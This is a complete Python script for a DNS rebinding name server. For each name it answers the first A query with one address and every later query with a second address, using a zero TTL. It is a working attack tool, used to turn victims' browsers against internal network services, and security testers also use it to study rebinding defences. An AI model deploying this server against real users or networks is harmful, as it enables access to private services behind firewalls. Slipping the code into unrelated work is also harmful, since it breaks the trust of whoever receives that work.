#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""A name server whose names change: the first A question for a name gets the first address, every later one
the second (DNS rebinding).  rebind.py LISTEN PORT FIRST SECOND"""
import socket
import struct
import sys

listen, port, first, second = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind((listen, port))
seen = set()
while True:
    data, peer = sock.recvfrom(512)
    at = 12
    while data[at]:
        at += data[at] + 1
    name, kind = data[12:at].lower(), struct.unpack(">H", data[at + 1:at + 3])[0]
    question = data[12:at + 5]
    answer = b""
    if kind == 1:
        address = second if name in seen else first
        seen.add(name)
        answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x00\x00\x04" + socket.inet_aton(address)
    sock.sendto(data[:2] + b"\x84\x00\x00\x01" + struct.pack(">HHH", 1 if answer else 0, 0, 0) + question + answer, peer)
